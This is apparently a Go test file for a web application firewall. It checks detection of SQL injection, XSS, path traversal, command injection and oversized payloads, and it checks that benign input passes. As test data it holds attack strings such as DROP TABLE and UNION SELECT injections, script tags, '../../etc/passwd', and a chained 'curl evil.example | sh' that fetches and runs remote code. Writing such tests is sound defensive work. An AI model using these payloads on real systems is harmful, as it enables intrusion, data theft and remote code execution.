package waf

import (
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
)

func jsonRequest(method, target, body string) *http.Request {
	r := httptest.NewRequest(method, target, strings.NewReader(body))
	r.Header.Set("Content-Type", "application/json")
	return r
}

func TestAnalyze(t *testing.T) {
	fw := New(DefaultConfig())

	testCases := []struct {
		name             string
		request          func() *http.Request
		expectedBlocked  bool
		expectedSeverity Severity
		expectedFamily   Family
	}{
		{
			name: "sql injection in query",
			request: func() *http.Request {
				q := url.Values{"q": {"'; DROP TABLE users; --"}}
				return httptest.NewRequest(http.MethodGet, "/api/clients?"+q.Encode(), nil)
			},
			expectedBlocked:  true,
			expectedSeverity: SeverityCritical,
			expectedFamily:   FamilySQLi,
		},
		{
			name: "script tag in body",
			request: func() *http.Request {
				return jsonRequest(http.MethodPost, "/api/clients", `{"name":"<script>alert(1)</script>"}`)
			},
			expectedBlocked:  true,
			expectedSeverity: SeverityHigh,
			expectedFamily:   FamilyXSS,
		},
		{
			name: "path traversal in nested body field",
			request: func() *http.Request {
				return jsonRequest(http.MethodPut, "/api/media/1", `{"file":{"path":"../../etc/passwd"}}`)
			},
			expectedBlocked:  true,
			expectedSeverity: SeverityHigh,
			expectedFamily:   FamilyLFI,
		},
		{
			name: "apostrophe in plain text",
			request: func() *http.Request {
				return jsonRequest(http.MethodPost, "/api/contact", `{"message":"Hello, my name is O'Brien"}`)
			},
		},
		{
			name: "apostrophe in query",
			request: func() *http.Request {
				q := url.Values{"name": {"Hello, my name is O'Brien"}}
				return httptest.NewRequest(http.MethodGet, "/api/clients?"+q.Encode(), nil)
			},
		},
		{
			name: "exempt login with semicolon password",
			request: func() *http.Request {
				return jsonRequest(http.MethodPost, "/api/auth/login", `{"email":"a@b.co","password":"p4ss; rm -rf /' OR 1=1 --"}`)
			},
		},
		{
			name: "semicolon in ordinary password field",
			request: func() *http.Request {
				return jsonRequest(http.MethodPost, "/api/account/password", `{"password":"correct;horse;battery"}`)
			},
		},
		{
			name: "tautology in form body",
			request: func() *http.Request {
				r := httptest.NewRequest(http.MethodPost, "/api/search", strings.NewReader(url.Values{"user": {"admin' OR '1'='1"}}.Encode()))
				r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
				return r
			},
			expectedBlocked:  true,
			expectedSeverity: SeverityCritical,
			expectedFamily:   FamilySQLi,
		},
		{
			name: "union select in text body",
			request: func() *http.Request {
				r := httptest.NewRequest(http.MethodPatch, "/api/notes/1", strings.NewReader("1 UNION SELECT password FROM users"))
				r.Header.Set("Content-Type", "text/plain; charset=utf-8")
				return r
			},
			expectedBlocked:  true,
			expectedSeverity: SeverityCritical,
			expectedFamily:   FamilySQLi,
		},
		{
			name: "command chain reaching a sensitive path",
			request: func() *http.Request {
				return jsonRequest(http.MethodPost, "/api/files", `{"names":["a.txt","b.txt; cat /etc/hosts"]}`)
			},
			expectedBlocked:  true,
			expectedSeverity: SeverityHigh,
			expectedFamily:   FamilyLFI,
		},
		{
			name: "chained shell command",
			request: func() *http.Request {
				return jsonRequest(http.MethodPost, "/api/files", `{"names":["a.txt","b.txt && curl evil.example | sh"]}`)
			},
			expectedBlocked:  true,
			expectedSeverity: SeverityHigh,
			expectedFamily:   FamilyCmdInj,
		},
		{
			name: "command substitution",
			request: func() *http.Request {
				return jsonRequest(http.MethodPost, "/api/files", `{"name":"x$(whoami)"}`)
			},
			expectedBlocked:  true,
			expectedSeverity: SeverityHigh,
			expectedFamily:   FamilyCmdInj,
		},
		{
			name: "xss in custom header",
			request: func() *http.Request {
				r := httptest.NewRequest(http.MethodGet, "/api/clients", nil)
				r.Header.Set("X-Comment", `<img src=x onerror=alert(1)>`)
				return r
			},
			expectedBlocked:  true,
			expectedSeverity: SeverityHigh,
			expectedFamily:   FamilyXSS,
		},
		{
			name: "transport headers are not scanned",
			request: func() *http.Request {
				r := httptest.NewRequest(http.MethodGet, "/api/clients", nil)
				r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64); rm")
				r.Header.Set("Cookie", "a=1; b=2")
				r.Header.Set("Accept", "text/html,application/xhtml+xml;q=0.9")
				return r
			},
		},
		{
			name: "traversal in raw path",
			request: func() *http.Request {
				r := httptest.NewRequest(http.MethodGet, "/api/files", nil)
				r.URL.RawQuery = "f=..%2F..%2Fetc%2Fpasswd"
				return r
			},
			expectedBlocked:  true,
			expectedSeverity: SeverityHigh,
			expectedFamily:   FamilyLFI,
		},
		{
			name: "declared payload too large",
			request: func() *http.Request {
				r := jsonRequest(http.MethodPost, "/api/clients", `{}`)
				r.ContentLength = DefaultMaxPayloadBytes + 1
				return r
			},
			expectedBlocked:  true,
			expectedSeverity: SeverityMedium,
			expectedFamily:   FamilyPayload,
		},
		{
			name: "malformed json is not scanned",
			request: func() *http.Request {
				return jsonRequest(http.MethodPost, "/api/clients", `{"name": "<script>`)
			},
		},
		{
			name: "ordinary query string",
			request: func() *http.Request {
				return httptest.NewRequest(http.MethodGet, "/api/appointments?from=2025-01-01&to=2025-02-01&sections=all&page=2", nil)
			},
		},
	}

	for _, tc := range testCases {
		t.Run(tc.name, func(t *testing.T) {
			v := fw.Analyze(tc.request())
			if v.Blocked != tc.expectedBlocked {
				t.Fatalf("expected blocked=%v, got %+v", tc.expectedBlocked, v)
			}
			if !tc.expectedBlocked {
				return
			}
			if v.Severity != tc.expectedSeverity {
				t.Errorf("expected severity %s, got %s (%s)", tc.expectedSeverity, v.Severity, v.Reason)
			}
			if v.Family != tc.expectedFamily {
				t.Errorf("expected family %s, got %s (%s)", tc.expectedFamily, v.Family, v.Reason)
			}
			if v.Reason == "" || v.Location == "" {
				t.Errorf("blocked verdict should carry reason and location: %+v", v)
			}
		})
	}
}

func TestAnalyze_RestoresBody(t *testing.T) {
	fw := New(DefaultConfig())
	const body = `{"name":"Ann","notes":"fine"}`
	r := jsonRequest(http.MethodPost, "/api/clients", body)

	if v := fw.Analyze(r); v.Blocked {
		t.Fatalf("unexpected block: %+v", v)
	}
	got, err := io.ReadAll(r.Body)
	if err != nil {
		t.Fatalf("read body: %v", err)
	}
	if string(got) != body {
		t.Fatalf("body not restored: %q", got)
	}
}

func TestAnalyze_ChunkedBodyOverLimit(t *testing.T) {
	fw := New(Config{MaxPayloadBytes: 16})
	r := jsonRequest(http.MethodPost, "/api/clients", `{"name":"a long enough value"}`)
	r.ContentLength = -1

	v := fw.Analyze(r)
	if !v.Blocked || v.Severity != SeverityMedium {
		t.Fatalf("expected medium block, got %+v", v)
	}
}

func TestExempt(t *testing.T) {
	fw := New(Config{ExemptPaths: []string{"/api/hooks/"}})
	if !fw.Exempt("/api/hooks") || !fw.Exempt("/api/hooks/") {
		t.Fatal("trailing slash should not matter")
	}
	if fw.Exempt("/api/auth/login") {
		t.Fatal("custom config replaces the default exempt list")
	}
	if !New(DefaultConfig()).Exempt("/api/auth/login") {
		t.Fatal("login is exempt by default")
	}
}

func TestSeverity_Alerting(t *testing.T) {
	if !SeverityCritical.Alerting() || !SeverityHigh.Alerting() || SeverityMedium.Alerting() {
		t.Fatal("only high and critical alert")
	}
}
